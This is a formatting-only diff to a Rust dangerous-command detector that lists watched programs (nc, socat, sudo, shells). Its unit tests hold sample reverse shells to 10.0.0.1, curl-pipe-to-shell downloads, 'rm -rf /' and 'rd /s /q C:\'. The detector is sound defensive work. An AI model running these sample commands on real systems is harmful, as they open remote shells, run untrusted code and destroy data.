@@ -105,9 +105,30 @@ pub struct Danger {
 /// Programs the checks of single commands look at: a script naming none of them is not
 /// split into commands at all.
 const WATCHED: &[&str] = &[
-    "rm", "rd", "rmdir", "remove-item", "del", "chmod", "nc", "ncat", "netcat", "socat",
-    "powershell", "pwsh", "sudo", "doas", "pkexec", "su", "chroot", "unshare", "sh", "bash",
-    "zsh", "dash", "ksh", "ash",
+    "rm",
+    "rd",
+    "rmdir",
+    "remove-item",
+    "del",
+    "chmod",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "powershell",
+    "pwsh",
+    "sudo",
+    "doas",
+    "pkexec",
+    "su",
+    "chroot",
+    "unshare",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "ash",
 ];
 
 /// Every dangerous command of `script`, run as `dialect`, in order.
@@ -172,7 +193,9 @@ fn lines(script: &str, out: &mut Vec<Danger>) {
         let base = at;
         at += line.len();
         let trimmed = line.trim_start();
-        let remark = trimmed.get(..4).is_some_and(|r| r.eq_ignore_ascii_case("rem "));
+        let remark = trimmed
+            .get(..4)
+            .is_some_and(|r| r.eq_ignore_ascii_case("rem "));
         if trimmed.starts_with('#') || remark {
             continue;
         }
@@ -181,13 +204,25 @@ fn lines(script: &str, out: &mut Vec<Danger>) {
         substitutions(line, base, out);
         for dev in ["/dev/tcp/", "/dev/udp/"] {
             if let Some(i) = line.find(dev) {
-                push(out, base + i, base + i + dev.len(), DangerKind::ReverseShell, dev);
+                push(
+                    out,
+                    base + i,
+                    base + i + dev.len(),
+                    DangerKind::ReverseShell,
+                    dev,
+                );
             }
         }
         if let Some(i) = line.find("b64decode")
             && (line.contains("exec(") || line.contains("eval("))
         {
-            push(out, base + i, base + i + 9, DangerKind::DecodeExecute, "exec of b64decode");
+            push(
+                out,
+                base + i,
+                base + i + 9,
+                DangerKind::DecodeExecute,
+                "exec of b64decode",
+            );
         }
     }
 }
@@ -211,7 +246,13 @@ fn pipelines(line: &str, base: usize, out: &mut Vec<Danger>) {
                 && let Some((start, _, kind, name)) = &source
             {
                 let end = s + w_at + w.len();
-                push(out, base + start, base + end, *kind, &format!("{name} … | {w}"));
+                push(
+                    out,
+                    base + start,
+                    base + end,
+                    *kind,
+                    &format!("{name} … | {w}"),
+                );
                 source = None;
                 continue;
             }
@@ -282,7 +323,9 @@ fn substitutions(line: &str, base: usize, out: &mut Vec<Danger>) {
     };
     for (i, ((at, w), l)) in ws.iter().zip(&lower).enumerate().skip(runner + 1) {
         let opened = w.starts_with(['$', '<', '(', '`', '"', '\''])
-            || ws[..i].iter().any(|(_, p)| p.contains("$(") || p.contains("<(") || p.contains('`') || p.ends_with('('));
+            || ws[..i].iter().any(|(_, p)| {
+                p.contains("$(") || p.contains("<(") || p.contains('`') || p.ends_with('(')
+            });
         if !opened {
             continue;
         }
@@ -316,7 +359,10 @@ fn simple(script: &str, command: &Command, dialect: Dialect, out: &mut Vec<Dange
         if is_privilege_command(&p) {
             push(out, first.start, first.end, DangerKind::Privileged, &p);
         }
-        if PREFIXES.contains(&p.as_str()) || first.text.contains('=') || first.text.starts_with('-') && p != "-" {
+        if PREFIXES.contains(&p.as_str())
+            || first.text.contains('=')
+            || first.text.starts_with('-') && p != "-"
+        {
             ws = &ws[1..];
         } else {
             break;
@@ -335,7 +381,10 @@ fn simple(script: &str, command: &Command, dialect: Dialect, out: &mut Vec<Dange
     };
     match p.as_str() {
         "rm" if flag('r', "--recursive") || flag('R', "--recursive") => {
-            if let Some(t) = args.iter().find(|a| is_root(&a.text) || a.text == "--no-preserve-root") {
+            if let Some(t) = args
+                .iter()
+                .find(|a| is_root(&a.text) || a.text == "--no-preserve-root")
+            {
                 let what = &script[first.start..t.end];
                 push(out, first.start, t.end, DangerKind::RemoveRoot, what);
             }
@@ -351,20 +400,35 @@ fn simple(script: &str, command: &Command, dialect: Dialect, out: &mut Vec<Dange
             }
         }
         "chmod" => {
-            if let Some(m) = args.iter().find(|a| WORLD_WRITABLE.contains(&a.text.as_str())) {
+            if let Some(m) = args
+                .iter()
+                .find(|a| WORLD_WRITABLE.contains(&a.text.as_str()))
+            {
                 let what = &script[first.start..m.end];
                 push(out, first.start, m.end, DangerKind::WorldWritable, what);
             }
         }
         "nc" | "ncat" | "netcat" if flag('e', "--exec") || flag('c', "--sh-exec") => {
-            push(out, first.start, first.end, DangerKind::ReverseShell, &format!("{p} -e"));
+            push(
+                out,
+                first.start,
+                first.end,
+                DangerKind::ReverseShell,
+                &format!("{p} -e"),
+            );
         }
         "socat" => {
             if let Some(a) = args.iter().find(|a| {
                 let t = a.text.to_ascii_lowercase();
                 t.starts_with("exec:") || t.starts_with("system:")
             }) {
-                push(out, first.start, a.end, DangerKind::ReverseShell, "socat exec:");
+                push(
+                    out,
+                    first.start,
+                    a.end,
+                    DangerKind::ReverseShell,
+                    "socat exec:",
+                );
             }
         }
         "powershell" | "pwsh" => {
@@ -372,7 +436,13 @@ fn simple(script: &str, command: &Command, dialect: Dialect, out: &mut Vec<Dange
                 let t = a.text.to_ascii_lowercase();
                 matches!(t.as_str(), "-e" | "-enc" | "-ec" | "-encodedcommand")
             }) {
-                push(out, first.start, a.end, DangerKind::DecodeExecute, &format!("{p} {}", a.text));
+                push(
+                    out,
+                    first.start,
+                    a.end,
+                    DangerKind::DecodeExecute,
+                    &format!("{p} {}", a.text),
+                );
             }
         }
         _ => {}
@@ -408,7 +478,10 @@ fn is_root(word: &str) -> bool {
     let upper = word.to_ascii_uppercase();
     ROOT_TARGETS.iter().any(|t| t.eq_ignore_ascii_case(word))
         || (upper.len() <= 4
-            && upper.as_bytes().first().is_some_and(u8::is_ascii_alphabetic)
+            && upper
+                .as_bytes()
+                .first()
+                .is_some_and(u8::is_ascii_alphabetic)
             && matches!(&upper[1..], ":" | ":\\" | ":\\*" | ":/"))
 }
 
@@ -430,8 +503,14 @@ mod tests {
     #[test]
     fn downloads_run_by_an_interpreter() {
         use DangerKind::DownloadExecute as D;
-        assert_eq!(posix("curl -fsSL https://x.sh | sh"), [(D, "curl -fsSL https://x.sh | sh")]);
-        assert_eq!(posix("wget -qO- x | sudo bash -s")[0], (D, "wget -qO- x | sudo bash"));
+        assert_eq!(
+            posix("curl -fsSL https://x.sh | sh"),
+            [(D, "curl -fsSL https://x.sh | sh")]
+        );
+        assert_eq!(
+            posix("wget -qO- x | sudo bash -s")[0],
+            (D, "wget -qO- x | sudo bash")
+        );
         assert_eq!(posix("bash -c \"$(curl -fsSL https://x/i.sh)\"")[0].0, D);
         assert_eq!(posix("sh <(wget -O- https://x)")[0].0, D);
         assert_eq!(kinds("iex (iwr https://x/a.ps1)", Dialect::Pwsh)[0].0, D);
@@ -455,7 +534,10 @@ mod tests {
     #[test]
     fn reverse_shells() {
         use DangerKind::ReverseShell as R;
-        assert_eq!(posix("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), [(R, "/dev/tcp/")]);
+        assert_eq!(
+            posix("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            [(R, "/dev/tcp/")]
+        );
         assert_eq!(posix("nc -e /bin/sh 10.0.0.1 4444"), [(R, "nc")]);
         assert_eq!(posix("ncat 10.0.0.1 4444 -c bash")[0].0, R);
         assert_eq!(posix("socat tcp:x:1 exec:bash")[0].0, R);
@@ -465,13 +547,25 @@ mod tests {
     #[test]
     fn deletion_permissions_privileges() {
         assert_eq!(posix("rm -rf /"), [(DangerKind::RemoveRoot, "rm -rf /")]);
-        assert_eq!(posix("sudo rm -r -f ~")[1], (DangerKind::RemoveRoot, "rm -r -f ~"));
+        assert_eq!(
+            posix("sudo rm -r -f ~")[1],
+            (DangerKind::RemoveRoot, "rm -r -f ~")
+        );
         assert_eq!(posix("rm -fr \"$HOME\"")[0].0, DangerKind::RemoveRoot);
-        assert_eq!(kinds("rd /s /q C:\\", Dialect::Cmd)[0].0, DangerKind::RemoveRoot);
+        assert_eq!(
+            kinds("rd /s /q C:\\", Dialect::Cmd)[0].0,
+            DangerKind::RemoveRoot
+        );
         assert!(posix("rm -rf ./build /tmp/x").is_empty());
-        assert_eq!(posix("chmod -R 777 /srv"), [(DangerKind::WorldWritable, "chmod -R 777")]);
+        assert_eq!(
+            posix("chmod -R 777 /srv"),
+            [(DangerKind::WorldWritable, "chmod -R 777")]
+        );
         assert!(posix("chmod 755 run.sh").is_empty());
-        assert_eq!(posix("sudo apt-get update"), [(DangerKind::Privileged, "sudo")]);
+        assert_eq!(
+            posix("sudo apt-get update"),
+            [(DangerKind::Privileged, "sudo")]
+        );
         assert!(posix("echo sudo is a word").is_empty());
     }
 
@@ -479,7 +573,13 @@ mod tests {
     fn without_a_shell_only_sh_c_scripts_have_pipelines() {
         assert!(kinds("curl https://x | sh", Dialect::Process).is_empty());
         let found = kinds("bash -c \"curl https://x | sh\"", Dialect::Process);
-        assert_eq!(found, [(DangerKind::DownloadExecute, "curl https://x | sh")]);
-        assert_eq!(kinds("rm -rf /", Dialect::Process)[0].0, DangerKind::RemoveRoot);
+        assert_eq!(
+            found,
+            [(DangerKind::DownloadExecute, "curl https://x | sh")]
+        );
+        assert_eq!(
+            kinds("rm -rf /", Dialect::Process)[0].0,
+            DangerKind::RemoveRoot
+        );
     }
 }
